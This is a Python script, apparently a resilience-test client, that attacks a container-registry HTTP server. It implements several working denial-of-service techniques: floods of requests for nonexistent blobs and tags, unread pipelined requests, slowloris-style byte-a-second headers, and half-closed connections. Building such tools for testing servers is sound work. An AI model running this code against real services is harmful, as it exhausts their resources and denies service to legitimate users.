#!/usr/bin/env python3
"""A hostile client, at a pace that does not use up the machine that it shares with the server.

Reads an order (JSON) from standard input, prints a line when the attack is in full swing, and goes on until it is killed.

Order: {host, port, kind, path, repository, connections, rate}
Kinds:
  junk-blobs         asks for digests that nobody has, `rate` a second, and closes at once
  junk-tags          asks for tags that nobody has, `rate` a second, and closes at once
  unread-pipelines   `connections` that send requests for `path` ahead, as many as are taken, and read nothing
  unfinished-heads   `connections` that send a byte of a header a second
  half-closed        `connections`, renewed at `rate` a second, that ask for junk and close their side
"""

from __future__ import annotations

import json
import os
import resource
import selectors
import socket
import sys
import time
from collections import deque
from collections.abc import Callable


class Attack:
    """One kind of attack on one server."""

    def __init__(self, order: dict):
        self.address = (order["host"], order["port"])
        self.path, self.repository = order["path"], order["repository"]
        self.connections, self.rate = order["connections"], order["rate"]
        self.open: deque[socket.socket] = deque()

    def connect(self) -> socket.socket:
        connection = socket.create_connection(self.address, timeout=10)
        connection.setblocking(False)
        return connection

    def head(self, path: str) -> bytes:
        return f"GET {path} HTTP/1.1\r\nHost: {self.address[0]}:{self.address[1]}\r\n\r\n".encode()

    def junk_blob(self) -> bytes:
        return self.head(f"/v2/{self.repository}/blobs/sha256:{os.urandom(32).hex()}")

    def junk_tag(self) -> bytes:
        return self.head(f"/v2/{self.repository}/manifests/{os.urandom(8).hex()}")

    def paced(self, step: Callable[[], None]) -> None:
        """Takes steps at the rate, for ever."""
        due = time.monotonic()
        while True:
            try:
                step()
            except OSError:
                pass  # Whoever is turned away comes again.
            due += 1 / self.rate
            time.sleep(max(0.0, due - time.monotonic()))

    def ask_and_leave(self, request: Callable[[], bytes]) -> None:
        announce()

        def step() -> None:
            with self.connect() as connection:
                connection.sendall(request())

        self.paced(step)

    def half_closed(self) -> None:
        announce()

        def step() -> None:
            if len(self.open) >= self.connections:
                self.open.popleft().close()
            connection = self.connect()
            connection.sendall(self.junk_blob())
            connection.shutdown(socket.SHUT_WR)
            self.open.append(connection)

        self.paced(step)

    def unread_pipelines(self) -> None:
        requests = self.head(self.path) * 64
        selector = selectors.EpollSelector()
        for _ in range(self.connections):
            selector.register(self.connect(), selectors.EVENT_WRITE)
        announce()
        while True:
            for key, _ in selector.select():
                try:
                    key.fileobj.send(requests)
                except BlockingIOError:
                    pass
                except OSError:
                    selector.unregister(key.fileobj)
                    key.fileobj.close()
            time.sleep(0.01)

    def unfinished_heads(self) -> None:
        for _ in range(self.connections):
            self.open.append(self.connect())
            self.open[-1].send(b"GET /v2/ HTTP/1.1\r\nX: ")
        announce()
        while True:
            time.sleep(1)
            for position, connection in enumerate(self.open):
                try:
                    connection.send(b"x")
                except OSError:
                    connection.close()
                    self.open[position] = self.connect()

    def run(self, kind: str) -> None:
        match kind:
            case "junk-blobs":
                self.ask_and_leave(self.junk_blob)
            case "junk-tags":
                self.ask_and_leave(self.junk_tag)
            case "half-closed":
                self.half_closed()
            case "unread-pipelines":
                self.unread_pipelines()
            case "unfinished-heads":
                self.unfinished_heads()
            case _:
                raise SystemExit(f"no such attack: {kind}")


def announce() -> None:
    print("begun", flush=True)


def main() -> None:
    order = json.load(sys.stdin)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    Attack(order).run(order["kind"])


if __name__ == "__main__":
    main()
